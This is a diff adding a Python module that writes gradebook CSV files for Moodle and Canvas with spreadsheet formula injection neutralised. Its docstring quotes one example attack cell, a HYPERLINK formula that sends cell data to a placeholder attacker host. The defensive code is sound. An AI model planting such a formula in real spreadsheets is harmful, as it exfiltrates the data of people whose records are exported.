@@ -1,0 +1,73 @@
+"""CSV files that are safe to open in a spreadsheet: formula injection neutralised (OWASP "CSV
+Injection", CWE-1236).
+
+Trainee names and e-mails come from a roster anyone could have typed into; a cell such as
+``=HYPERLINK("http://evil.example/?"&A1)`` would run as a formula when a tutor opens the export in
+Excel or LibreOffice. Every text cell (and header) starting with a formula trigger gets a leading
+single quote, which spreadsheets read as "this is text". Numbers stay numbers, negative ones too.
+"""
+
+from __future__ import annotations
+
+import csv
+import math
+import numbers
+import os
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+
+# OWASP's list (= + - @ tab CR) plus NUL, which OWASP ASVS 1.2.10 adds.
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
+QUOTE = "'"
+
+# Encoding and line ends, checked against both importers' sources:
+# - UTF-8 with a BOM: Excel needs the BOM to read non-ASCII names (Zoë, Łukasz) as UTF-8.
+#   Moodle's csv_import_reader::load_csv_content strips it (core_text::trim_utf8_bom) before
+#   parsing; Canvas's GradebookImporter only asks that the first header cell *include* "Student"
+#   (row[0].include?), so a BOM before it does no harm, and Canvas's own gradebook export can
+#   carry one (a user setting) and must import back.
+# - \r\n: RFC 4180's line end and Excel's own. Moodle rewrites \r\n to \n before parsing and
+#   Canvas parses with Ruby's CSV, which detects the line end; both accept either.
+ENCODING = "utf-8-sig"
+LINE_END = "\r\n"
+
+
+def neutralise(value: Any) -> Any:
+    """``value`` as it should go into a CSV cell.
+
+    Numbers (int, float, numpy numbers, Decimal; not bool) are returned unchanged so they are
+    written as numbers; missing values (None, NaN, pd.NA) become ``""`` (a blank cell, which
+    both LMSs read as "no grade"); anything else becomes text, prefixed with ``'`` if it starts
+    with ``=``, ``+``, ``-``, ``@``, tab, carriage return or NUL.
+    """
+    if value is None or value is pd.NA or value is pd.NaT:
+        return ""
+    if isinstance(value, (numbers.Real, Decimal)) and not isinstance(value, bool):
+        return "" if math.isnan(value) else value
+    text = str(value)
+    return QUOTE + text if text.startswith(TRIGGERS) else text
+
+
+def write_csv(frame: pd.DataFrame, path: Path) -> Path:
+    """Write ``frame`` (header, then rows; no index) to ``path`` with every cell neutralised.
+
+    UTF-8 with a BOM and ``\\r\\n`` line ends (see ``ENCODING``). The file is written beside
+    ``path`` and moved into place, so a failure never leaves half a gradebook behind. Parent
+    folders are created. Returns ``path``.
+    """
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    partial = path.with_name(f".{path.name}.partial")
+    try:
+        with open(partial, "w", encoding=ENCODING, newline="") as out:
+            writer = csv.writer(out, lineterminator=LINE_END)
+            writer.writerow([neutralise(str(name)) for name in frame.columns])
+            for row in frame.itertuples(index=False, name=None):
+                writer.writerow([neutralise(cell) for cell in row])
+        os.replace(partial, path)
+    finally:
+        partial.unlink(missing_ok=True)
+    return path
